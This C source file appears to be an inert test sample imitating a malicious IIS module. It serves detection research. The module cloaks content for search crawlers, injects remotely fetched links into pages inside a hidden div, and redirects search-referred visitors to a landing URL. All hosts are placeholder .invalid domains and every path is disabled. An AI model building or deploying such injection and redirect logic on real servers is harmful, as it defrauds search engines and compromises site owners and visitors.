/*
 * Behaviour sample 3 (x86 native module, RegisterModule): SEO link injector.
 *
 * Imitates an SEO-fraud module: on OnSendResponse it reads User-Agent and
 * Referer (IHttpRequest::GetHeader), and for crawlers (generic tokens, no
 * published spider list) fetches a link block from a remote URL with
 * WinINet (InternetOpenA / InternetOpenUrlA / InternetReadFile) and writes
 * it into the response body (IHttpResponse::Clear + WriteEntityChunks);
 * visitors arriving from a search page get a 302 via SetStatus/SetHeader.
 * Varies: 32-bit, no pipe-delimited list, no script-tag template, no known
 * C2 path, lower-case tokens matched with strstr.
 *
 * Inert: everything is behind `if (k_inert)` (volatile const 0); the URL is
 * under the reserved .invalid TLD; RegisterModule returns E_NOTIMPL.
 */
#define INERT_NATIVE_MODULE
#include "inert.h"
#include <wininet.h>
#include <string.h>

static const char *const k_crawler_tokens[] = {
    "spider", "crawler", "slurp", "bot/", "+http",
};
static const char *const k_search_referers[] = {
    "search?q=", "&wd=", "/s?", "?query=",
};
static const char k_feed_url[] = "http://feed.content-boost.invalid/links/v3?h=";
static const char k_landing[] = "http://landing.content-boost.invalid/";
static const char k_inject_open[] = "<div style=\"display:none\">";
static const char k_inject_close[] = "</div></body>";

static NOINLINE int matches_any(const char *s, const char *const *list, int n)
{
    char low[512];
    int i;
    if (!s)
        return 0;
    for (i = 0; s[i] && i < (int)sizeof(low) - 1; i++)
        low[i] = (s[i] >= 'A' && s[i] <= 'Z') ? s[i] + 32 : s[i];
    low[i] = 0;
    for (i = 0; i < n; i++)
        if (strstr(low, list[i]))
            return 1;
    return 0;
}

static NOINLINE DWORD fetch_links(const char *host, char *buf, DWORD cb)
{
    char url[512];
    DWORD got = 0, total = 0;
    HINTERNET net, h;

    lstrcpynA(url, k_feed_url, sizeof(url));
    lstrcatA(url, host ? host : "");
    net = InternetOpenA("Mozilla/5.0 (compatible)", INTERNET_OPEN_TYPE_PRECONFIG,
                        NULL, NULL, 0);
    h = InternetOpenUrlA(net, url, NULL, 0,
                         INTERNET_FLAG_RELOAD | INTERNET_FLAG_NO_CACHE_WRITE, 0);
    while (h && total < cb - 1 &&
           InternetReadFile(h, buf + total, cb - 1 - total, &got) && got)
        total += got;
    buf[total] = 0;
    InternetCloseHandle(h);
    InternetCloseHandle(net);
    return total;
}

static NOINLINE DWORD on_send_response(IHttpContextC *ctx)
{
    IHttpRequestC *req = ctx->lpVtbl->GetRequest(ctx);
    IHttpResponseC *resp = ctx->lpVtbl->GetResponse(ctx);
    USHORT cch = 0;
    PCSTR ua = req->lpVtbl->GetHeader(req, "User-Agent", &cch);
    PCSTR ref = req->lpVtbl->GetHeader(req, "Referer", &cch);
    PCSTR host = req->lpVtbl->GetHeader(req, "Host", &cch);
    static char links[8192];
    HTTP_DATA_CHUNK_MEM chunks[3];
    DWORD sent = 0;
    BOOL more = FALSE;

    if (matches_any(ua, k_crawler_tokens, 5)) {
        DWORD n = fetch_links(host, links, sizeof(links));
        resp->lpVtbl->Clear(resp);
        chunks[0].DataChunkType = 0;
        chunks[0].pBuffer = (PVOID)k_inject_open;
        chunks[0].BufferLength = sizeof(k_inject_open) - 1;
        chunks[1].DataChunkType = 0;
        chunks[1].pBuffer = links;
        chunks[1].BufferLength = n;
        chunks[2].DataChunkType = 0;
        chunks[2].pBuffer = (PVOID)k_inject_close;
        chunks[2].BufferLength = sizeof(k_inject_close) - 1;
        resp->lpVtbl->WriteEntityChunks(resp, chunks, 3, FALSE, FALSE, &sent, &more);
    } else if (matches_any(ref, k_search_referers, 4)) {
        resp->lpVtbl->SetStatus(resp, 302, "Found", 0, S_OK, NULL, TRUE);
        resp->lpVtbl->SetHeader(resp, "Location", k_landing,
                                (USHORT)(sizeof(k_landing) - 1), TRUE);
    }
    return RQ_NOTIFICATION_CONTINUE;
}

static HRESULT __stdcall factory_get_module(IHttpModuleFactoryC *self,
                                            void **ppModule, void *pAllocator)
{
    (void)self;
    (void)pAllocator;
    *ppModule = NULL;
    return E_INERT;
}
static VOID __stdcall factory_terminate(IHttpModuleFactoryC *self) { (void)self; }
static const IHttpModuleFactoryVtbl k_factory_vtbl = {factory_get_module,
                                                      factory_terminate};
static IHttpModuleFactoryC g_factory = {&k_factory_vtbl};

HRESULT WINAPI RegisterModule(DWORD dwServerVersion,
                              IHttpModuleRegistrationInfoC *pModuleInfo,
                              IHttpServerC *pGlobalInfo)
{
    (void)dwServerVersion;
    if (k_inert) {
        pModuleInfo->lpVtbl->SetRequestNotifications(pModuleInfo, &g_factory,
                                                     RQ_SEND_RESPONSE, 0);
        on_send_response((IHttpContextC *)pGlobalInfo);
        return S_OK;
    }
    return E_INERT;
}
